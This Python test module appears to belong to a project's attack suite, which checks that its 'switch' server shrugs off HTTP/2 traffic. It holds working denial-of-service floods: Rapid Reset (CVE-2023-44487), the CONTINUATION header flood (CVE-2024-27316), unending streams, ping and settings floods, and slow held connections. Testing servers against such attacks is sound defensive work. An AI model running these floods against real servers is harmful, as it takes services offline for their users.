# SPDX-License-Identifier: Apache-2.0
"""Attacks of clients that speak HTTP/2 (RFC 9113), as ranks of earlier versions did. A switch knows
just enough of it to refuse them (J-001), so nothing that they send may cost it anything."""

import struct

from attacks import CONNECTIONS_MAX, Connection, attack, close_all

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
HEADERS, RST_STREAM, SETTINGS, PING, CONTINUATION = 1, 3, 4, 6, 9
END_HEADERS = 0x4
PATH = "/infold.v1.Control/Join"
# The first header of RFC 7541's static table that is a path, which is "/". With :method POST and
# :scheme http, a stream to this path costs 9 + 6 bytes.
SHORT_HEADERS = b"\x83\x86\x84\x01\x01x"


def frame(kind, flags, stream, payload=b""):
    return struct.pack("!I", len(payload))[1:] + struct.pack("!BBI", kind, flags, stream) + payload


def literal(name, value):
    """Returns a literal header without indexing. Both texts are shorter than 127 bytes."""
    return b"".join((b"\0", bytes([len(name)]), name.encode(), bytes([len(value)]), value.encode()))


def call_headers():
    """Returns the headers of the call that ranks of earlier versions open."""
    return b"".join(
        literal(*pair)
        for pair in (
            (":method", "POST"),
            (":scheme", "http"),
            (":path", PATH),
            (":authority", "switch"),
            ("content-type", "application/grpc"),
            ("te", "trailers"),
        )
    )


OPENING = PREFACE + frame(SETTINGS, 0, 0)


def flood(target, opening, piece, reads=True):
    """Sends pieces for as long as the connection takes them, and then begins again."""
    for _ in target.until_over(0.001):
        with Connection(target) as connection:
            connection.send(opening)
            for turn in target.until_over(0):
                connection.send(piece(turn))
                if reads and turn % 32 == 31 and not connection.discard():
                    break


@attack
def http2_streams_without_end(target, draw):
    """Streams of 15 bytes each, none of which ever ends."""

    def piece(turn):
        first = 1 + 2000 * turn
        streams = range(first, first + 2000, 2)
        return b"".join(frame(HEADERS, END_HEADERS, each, SHORT_HEADERS) for each in streams)

    flood(target, OPENING, piece, reads=draw.random() < 0.5)


@attack
def http2_streams_that_are_reset(target, draw):
    """Streams that are cancelled as soon as they are open (CVE-2023-44487)."""

    def piece(turn):
        opened = frame(HEADERS, END_HEADERS, 1 + 2 * turn, call_headers())
        return opened + frame(RST_STREAM, 0, 1 + 2 * turn, struct.pack("!I", 8))

    flood(target, OPENING, piece)


@attack
def http2_headers_without_end(target, draw):
    """A block of headers that never ends (CVE-2024-27316)."""
    more = frame(CONTINUATION, 0, 1, literal("x", "y" * 100) * 50)
    flood(target, OPENING + frame(HEADERS, 0, 1, call_headers()), lambda _: more)


@attack
def http2_without_a_call(target, draw):
    """Settings, pings and unknown frames, so that no call ever comes that could be refused."""

    def piece(_):
        kind = draw.choice((SETTINGS, PING, 0x77))
        return frame(kind, draw.randrange(256), 0, draw.randbytes(draw.choice((0, 6, 8, 1000))))

    flood(target, OPENING, piece)


@attack
def http2_clients_that_stay(target, draw):
    """The beginning of HTTP/2, or a piece of it, and then silence or a byte now and then."""
    held = []
    whole = OPENING + frame(PING, 0, 0, bytes(8))
    for _ in target.until_over(0.002):
        if len(held) < CONNECTIONS_MAX:
            held.append(Connection(target))
            held[-1].send(whole[: draw.randrange(4, len(whole) + 1)])
        else:
            draw.choice(held).send(b"\0")
    close_all(held)


@attack
def http2_frames_of_nonsense(target, draw):
    """Random bytes, lengths and headers behind the first bytes of HTTP/2."""
    for _ in target.until_over(0.002):
        with Connection(target) as connection:
            connection.send(draw.choice((PREFACE[:4], PREFACE, OPENING)))
            drawn = draw.randbytes(draw.choice((1, 8, 9, 100, 10_000)))
            kind, stream = draw.choice((HEADERS, 0, 0xEE)), draw.choice((0, 1, 2, (1 << 32) - 1))
            connection.send(draw.choice((drawn, frame(kind, draw.randrange(256), stream, drawn))))
            if draw.random() < 0.5:
                connection.discard()
